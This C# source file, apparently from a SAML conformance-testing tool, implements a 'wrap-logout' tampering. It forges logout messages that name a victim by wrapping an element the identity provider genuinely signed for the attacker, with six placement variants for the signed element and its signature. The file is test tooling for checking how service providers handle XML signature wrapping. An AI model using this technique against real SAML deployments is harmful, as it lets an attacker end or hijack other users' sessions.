using System.Xml;
using Conformance.Saml.Forging;
using Conformance.Saml.Names;
using Conformance.Saml.Potency;
using Conformance.Saml.Signing;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>Something of the attacker's own that the IdP signed vouches for a forged logout message around it.</summary>
internal sealed class WrapLogout(TamperingArguments arguments) : Tampering
{
    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "wrap-logout",
            "Packs a message or assertion that the IdP signed for the attacker into the forged logout message.",
            "The IdP's signature verifies over the packed element; it does not cover the message around it, which names the victim.",
            [
                new("signed", "What the IdP signed: a LogoutRequest about the attacker, an answer to one, the attacker's assertion, or the Response around it.",
                    ["own-request", "logout-response", "assertion", "response"]),
                new("at", "Where it stands: whole as first or last child, whole in Extensions; it in the Object of its Signature, which is the root's; "
                    + "it in Extensions and its Signature the root's; same-id: and the root has its ID.",
                    ["child-first", "child-last", "extensions", "object", "signature-at-root", "signature-at-root-same-id"]),
            ]),
        arguments => new WrapLogout(arguments));

    public override string Name => "wrap-logout";

    public override void AfterSigning(Workpiece work)
    {
        var root = work.Root;
        if (Dom.Signature(root) is not null)
        {
            throw new TamperingException("a forged logout message has no signature of its own; write 'signed: nobody'.");
        }

        var genuine = (XmlElement)work.Document.ImportNode(Genuine(work), true);
        work.Document.CreateDocumentFragment().AppendChild(genuine);
        var id = genuine.GetAttribute("ID");
        switch (arguments.Required("at"))
        {
            case "child-first":
                root.PrependChild(genuine);
                break;
            case "child-last":
                root.AppendChild(genuine);
                break;
            case "extensions":
                Holders.Extensions(root).AppendChild(genuine);
                break;
            case "object":
                Holders.Object(MoveSignature(genuine, root)).AppendChild(genuine);
                break;
            case var place:
                MoveSignature(genuine, root);
                Holders.Extensions(root).AppendChild(genuine);
                if (place == "signature-at-root-same-id")
                {
                    root.SetAttribute("ID", id);
                }

                break;
        }

        work.Claim(new GenuineStands(id));
        if (Dom.Child(root, "NameID", SamlNamespaces.Assertion) is { } name)
        {
            work.Claim(new RootNames(name.InnerText));
        }
    }

    private static XmlElement MoveSignature(XmlElement genuine, XmlElement root)
    {
        var signature = Dom.Detach(Dom.Signature(genuine)!);
        Holders.PutSignature(signature, root);
        Dom.Declare(signature, signature.Prefix, SamlNamespaces.XmlSignature);
        return signature;
    }

    private XmlElement Genuine(Workpiece work)
    {
        switch (arguments.Required("signed"))
        {
            case "own-request":
                return OwnRequest(work);
            case "logout-response":
                return ForeignDocuments.Make("logout-response", work);
            case var kind:
                var response = ResponseWriter.Write(work.Draft with { Style = work.Draft.Style with { XmlDeclaration = false } }).DocumentElement!;
                var signed = kind == "response" ? response : Dom.Child(response, "Assertion", SamlNamespaces.Assertion)!;
                XmlSigner.Sign(signed, SignatureTemplate.From(work.Draft));
                return signed == response ? response : Dom.Clone(signed);
        }
    }

    // What the attacker gets when the identity provider ends their own session.
    private static XmlElement OwnRequest(Workpiece work)
    {
        var document = ExactXml.Read(ExactXml.Write(work.Document));
        var request = document.DocumentElement!;
        if (Dom.Child(request, "NameID", SamlNamespaces.Assertion) is not { } name || work.Draft.Content.NameId is not { } own)
        {
            throw new TamperingException("only a LogoutRequest with a NameID can be likened to one of the attacker's own.");
        }

        request.SetAttribute("ID", work.Context.Ids.Next());
        XmlSigner.SetText(name, own.Value);
        foreach (var index in Dom.Children(request).Where(child => child.LocalName == "SessionIndex"))
        {
            XmlSigner.SetText(index, work.Context.Ids.Next());
        }

        XmlSigner.Sign(request, SignatureTemplate.From(work.Draft));
        return request;
    }
}
